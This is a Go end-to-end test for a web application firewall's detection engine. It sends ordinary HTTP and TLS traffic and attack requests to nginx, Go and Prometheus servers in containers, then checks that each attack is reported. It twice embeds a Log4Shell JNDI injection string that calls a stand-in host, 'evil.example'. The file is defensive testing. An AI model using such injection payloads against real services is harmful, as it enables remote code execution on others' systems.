// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/collector/view"
	"github.com/holdfast-project/holdfast/tests/certificate"
	"github.com/holdfast-project/holdfast/tests/lab"
	"github.com/holdfast-project/holdfast/tests/rig"
	"github.com/holdfast-project/holdfast/tests/traffic"
	"github.com/holdfast-project/holdfast/tests/wait"
)

// web is a server in a container, and a network of addresses from which it is asked: hits of one rule from one address are
// one alert.
type web struct {
	name, container, process, source string
	address                          netip.AddrPort
	// worker says that the process is one that the first one of the container has made.
	tls, worker bool
	from        netip.Addr
	requests    int
}

// next is an address that nobody has asked from.
func (s *web) next() netip.Addr {
	s.from = s.from.Next()
	return s.from
}

// dial connects to the server from an address.
func (s *web) dial(ctx context.Context, l *lab.Lab, from netip.Addr) (conn net.Conn, err error) {
	err = l.InNetwork(func() error {
		dialer := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0)), Timeout: time.Minute}
		conn, err = dialer.DialContext(ctx, "tcp", s.address.String())
		return err
	})
	if err == nil && s.tls {
		conn = tls.Client(conn, &tls.Config{InsecureSkipVerify: true})
	}
	return conn, err
}

// ask sends requests over connections from one address, and waits for each answer.
func (s *web) ask(t *testing.T, l *lab.Lab, from netip.Addr, requests ...[]byte) {
	t.Helper()
	var conn net.Conn
	var answers *bufio.Reader
	defer func() {
		if conn != nil {
			_ = conn.Close()
		}
	}()
	for _, q := range requests {
		if conn == nil {
			var err error
			if conn, err = s.dial(t.Context(), l, from); err != nil {
				t.Fatal(err)
			}
			answers = bufio.NewReader(conn)
		}
		if _, err := conn.Write(q); err != nil {
			t.Fatalf("%s: send %.80q: %v", s.name, q, err)
		}
		method, _, _ := bytes.Cut(q, []byte(" "))
		answer, err := http.ReadResponse(answers, &http.Request{Method: string(method)})
		if err != nil {
			t.Fatalf("%s: the answer to %.200q: %v", s.name, q, err)
		}
		if _, err := io.Copy(io.Discard, answer.Body); err != nil {
			t.Fatalf("%s: the answer to %.200q: %v", s.name, q, err)
		}
		if answer.Close {
			_ = conn.Close()
			conn = nil
		}
	}
	s.requests += len(requests)
}

// told gives what was told of requests from some addresses.
func (s *web) told(ctx context.Context, r *rig.Rig, from ...netip.Addr) ([]view.Alert, error) {
	alerts, err := r.Alerts(ctx, "--rule", "Attack in a request", "--limit", "10000")
	return slices.DeleteFunc(alerts, func(a view.Alert) bool {
		return a.Event.Network == nil || !slices.ContainsFunc(from, func(ip netip.Addr) bool { return a.Event.Network.RemoteAddress == ip.String() })
	}), err
}

// await asks for what was told until there is something of each address, and gives it by address.
func (s *web) await(t *testing.T, r *rig.Rig, from ...netip.Addr) map[netip.Addr][]view.Alert {
	t.Helper()
	told := map[netip.Addr][]view.Alert{}
	err := wait.For(t.Context(), time.Minute, func() error {
		alerts, err := r.Alerts(t.Context(), "--rule", "Attack in a request", "--limit", "10000")
		clear(told)
		for _, a := range alerts {
			if address, err := netip.ParseAddr(a.Event.Network.RemoteAddress); err == nil {
				told[address] = append(told[address], a)
			}
		}
		for _, address := range from {
			if err == nil && len(told[address]) == 0 {
				err = fmt.Errorf("%s: nothing is told of what came from %s", s.name, address)
			}
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
	return told
}

// check checks that an alert names the server, how it was asked, and the class.
func (s *web) check(t *testing.T, a *view.Alert, class string) {
	t.Helper()
	f := a.Finding
	worker := true
	if s.worker && a.Process != nil {
		// What the process calls itself, which it may write.
		title, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", a.Process.PID))
		worker = strings.Contains(string(title), s.process+": worker")
	}
	if f == nil || !worker || f.Class != class || f.Signal != "waf" || !f.Accepted || f.Source != s.source || a.Container == nil || a.Container.Name != s.container ||
		a.Process == nil || a.Process.Name != s.process {
		t.Errorf("%s: alert %+v of %+v, finding %+v; want class %s", s.name, a, a.Process, f, class)
	}
}

// TestAttacksOnServers sends attacks to servers in containers, plain and over the TLS of OpenSSL and of Go, there also where the
// server wraps its connections: each is told, with the server's process. Before that they serve ordinary traffic, of which
// nothing is told, though what follows on the same connections is.
func TestAttacksOnServers(t *testing.T) {
	r := startRig(t, rig.Config{AgentArgs: []string{"--waf-mode", "monitor"}})
	servers := startWebServers(t, r)
	// Inside TLS the caller is known; of packets, who accepts is, where a security hook shows it.
	servers[0].worker, servers[1].worker = acceptorKnown(t, r), true
	for _, s := range servers {
		t.Run(s.name, func(t *testing.T) {
			s.warm(t, r)
			s.replay(t, r)
			s.attack(t, r)
		})
	}
	node, err := r.Node(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("not looked through: %v", node.Health.Uninspected)
	for _, cause := range []string{"content_skipped_bytes", "content_record_gap", "kernel_ring_content_full"} {
		if n := node.Health.Uninspected[cause]; n > 0 {
			t.Errorf("%s: %d", cause, n)
		}
	}
	if n := node.Health.Losses["finding_untold"]; n > 0 {
		t.Errorf("finding_untold: %d", n)
	}
}

// acceptorKnown reports whether the node's kernel shows which process accepts a connection.
func acceptorKnown(t *testing.T, r *rig.Rig) bool {
	t.Helper()
	node, err := r.Node(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return slices.ContainsFunc(node.Capabilities, func(c view.Capability) bool {
		return c.Signal == "accept" && strings.Contains(c.Mechanism, "sock_graft")
	})
}

// nginxConf serves plain and with TLS, and reads what it is sent.
const nginxConf = `daemon off; worker_processes 2; pid /tmp/nginx.pid; error_log stderr warn;
events { worker_connections 256; }
http {
  access_log off; keepalive_requests 100000; client_max_body_size 0; large_client_header_buffers 8 64k;
  server {
    listen 80; listen 443 ssl; ssl_certificate /etc/nginx/tls.pem; ssl_certificate_key /etc/nginx/tls-key.pem;
    location / { return 200 "ok\n"; }
  }
}
`

// goPort is where the server in Go listens.
const goPort = 8443

// startWebServers runs nginx, with OpenSSL, a server with Go's TLS, and Prometheus, which wraps its connections before it gives
// them to that.
func startWebServers(t *testing.T, r *rig.Rig) []*web {
	t.Helper()
	cert, key, err := certificate.SelfSigned()
	if err != nil {
		t.Fatal(err)
	}
	nginx, err := dressed(lab.Nginx, "waf-nginx", nil,
		lab.File{Path: "/etc/nginx/nginx.conf", Mode: 0o644, Content: []byte(nginxConf)},
		lab.File{Path: "/etc/nginx/tls.pem", Mode: 0o644, Content: cert}, lab.File{Path: "/etc/nginx/tls-key.pem", Mode: 0o644, Content: key})
	if err != nil {
		t.Fatal(err)
	}
	gopher, err := lab.NewImage("docker.io/acme/goserver:1", []lab.File{
		{Path: "/usr/bin/goserver", Mode: 0o755, Source: r.Program("goserver")}, {Path: "/etc/tls.pem", Mode: 0o644, Content: cert},
		{Path: "/etc/tls-key.pem", Mode: 0o644, Content: key},
	}, "/usr/bin/goserver")
	if err != nil {
		t.Fatal(err)
	}
	metrics, err := dressed(lab.Prometheus, "waf-prometheus", map[string]string{"/etc/prometheus/web.yml": "web.yml"},
		lab.File{Path: "/etc/prometheus/prometheus.yml", Mode: 0o644, Content: []byte("global: {}\n")},
		lab.File{Path: "/etc/prometheus/tls.pem", Mode: 0o644, Content: cert}, lab.File{Path: "/etc/prometheus/tls-key.pem", Mode: 0o644, Content: key})
	if err != nil {
		t.Fatal(err)
	}
	for _, image := range []lab.Image{nginx, gopher, metrics} {
		built, err := image.Build()
		if err != nil {
			t.Fatal(err)
		}
		if err := r.Lab.ImportBuilt(t.Context(), built); err != nil {
			t.Fatal(err)
		}
	}
	pod := runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "web"})
	run(t, pod, lab.ContainerConfig{Name: "nginx", Image: nginx.Name})
	run(t, pod, lab.ContainerConfig{Name: "go", Image: gopher.Name, Args: []string{fmt.Sprint(":", goPort), "/etc/tls.pem", "/etc/tls-key.pem"}})
	run(t, pod, lab.ContainerConfig{Name: "metrics", Image: metrics.Name, Args: []string{
		"--config.file=/etc/prometheus/prometheus.yml", "--web.config.file=/etc/prometheus/web.yml", "--storage.tsdb.path=/var/lib/prometheus",
	}})
	for _, port := range []uint16{80, 443, goPort, lab.PrometheusPort} {
		if err := pod.AwaitPort(t.Context(), port); err != nil {
			t.Fatal(err)
		}
	}
	addAskers(t, r)
	at := func(port uint16) netip.AddrPort { return netip.AddrPortFrom(pod.IPs[0], port) }
	return []*web{
		{name: "plain", container: "nginx", process: "nginx", source: "packet", address: at(80), from: netip.MustParseAddr("198.18.1.0")},
		{name: "openssl", container: "nginx", process: "nginx", source: "openssl", address: at(443), tls: true, from: netip.MustParseAddr("198.18.2.0")},
		{name: "go", container: "go", process: "goserver", source: "go", address: at(goPort), tls: true, from: netip.MustParseAddr("198.18.3.0")},
		{name: "go, wrapped", container: "metrics", process: "prometheus", source: "go", address: at(lab.PrometheusPort), tls: true, from: netip.MustParseAddr("198.18.4.0")},
	}
}

// addAskers makes addresses of 198.18.0.0/16 the lab's: every one of a network that the loopback device has is this machine's.
func addAskers(t *testing.T, r *rig.Rig) {
	t.Helper()
	if out, err := r.Lab.Command(t.Context(), "ip", "addr", "add", "198.18.0.1/16", "dev", "lo").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
}

// warm asks until the server is inspected: the first connections may be quicker than the probes.
func (s *web) warm(t *testing.T, r *rig.Rig) {
	t.Helper()
	var asked []netip.Addr
	err := wait.For(t.Context(), time.Minute, func() error {
		asked = append(asked, s.next())
		_, attack := traffic.Attack{Class: "log4shell", Text: "${jndi:ldap://evil.example/a}"}.At(0)
		s.ask(t, r.Lab, asked[len(asked)-1], attack)
		told, err := s.told(t.Context(), r, asked...)
		if err == nil && len(told) == 0 {
			err = fmt.Errorf("%s: nothing is told yet", s.name)
		}
		return err
	})
	if err != nil {
		if node, asked := r.Node(t.Context()); asked == nil {
			t.Logf("TLS that is not seen: %+v", node.Health.Opaque)
		}
		t.Fatal(err)
	}
}

// replayConns is how many connections have the ordinary requests, replayedRate the bytes a second that are within the budget of a
// container.
const (
	replayConns  = 6
	replayedRate = 2 << 20
)

// replay sends ordinary requests, with an attack at the end of each connection, and nothing but that is told.
func (s *web) replay(t *testing.T, r *rig.Rig) {
	t.Helper()
	replayed := 600
	if long() {
		replayed = 3000
	}
	generator, sent, began := traffic.New(uint64(s.address.Port())), 0, time.Now()
	var addresses []netip.Addr
	for range replayConns {
		requests := make([][]byte, 0, replayed/replayConns+1)
		for range replayed / replayConns {
			q := traffic.Append(nil, generator.Request())
			requests = append(requests, q)
			sent += len(q)
		}
		_, attack := traffic.Attack{Class: "log4shell", Text: "${jndi:ldap://evil.example/a}"}.At(1)
		from := s.next()
		s.ask(t, r.Lab, from, append(requests, attack)...)
		addresses = append(addresses, from)
		time.Sleep(time.Until(began.Add(time.Duration(sent) * time.Second / replayedRate)))
	}
	all := s.await(t, r, addresses...)
	for _, from := range addresses {
		told := all[from]
		if len(told) != 1 {
			t.Errorf("%s: %d alerts about %s, one attack", s.name, len(told), from)
		}
		for i := range told {
			s.check(t, &told[i], "log4shell")
		}
	}
	t.Logf("%s: %d ordinary requests, %d KiB, over %d connections: none told", s.name, replayed, sent>>10, replayConns)
}

// attack sends each payload, each from an address of its own.
func (s *web) attack(t *testing.T, r *rig.Rig) {
	t.Helper()
	all := traffic.Attacks()
	addresses := make([]netip.Addr, len(all))
	for i, p := range all {
		addresses[i] = s.next()
		_, request := p.At(i)
		s.ask(t, r.Lab, addresses[i], request)
	}
	alerts, found := s.await(t, r, addresses...), map[string]int{}
	for i, p := range all {
		place, _ := p.At(i)
		told := alerts[addresses[i]]
		if !slices.ContainsFunc(told, func(a view.Alert) bool {
			// What header it was in is told by its name.
			f := a.Finding
			return f != nil && f.Class == p.Class && (place != "header" || f.Part == place && strings.EqualFold(f.Name, "X-Forwarded-For"))
		}) {
			t.Errorf("%s: %q in the %s: %d alerts, none of them of %s", s.name, p.Text, place, len(told), p.Class)
			continue
		}
		for j := range told {
			s.check(t, &told[j], told[j].Finding.Class)
		}
		found[p.Class]++
	}
	t.Logf("%s: found %s", s.name, counted(found))
}

func counted(found map[string]int) string {
	var words []string
	for class, n := range found {
		words = append(words, strconv.Itoa(n)+" of "+class)
	}
	slices.Sort(words)
	return strings.Join(words, ", ")
}
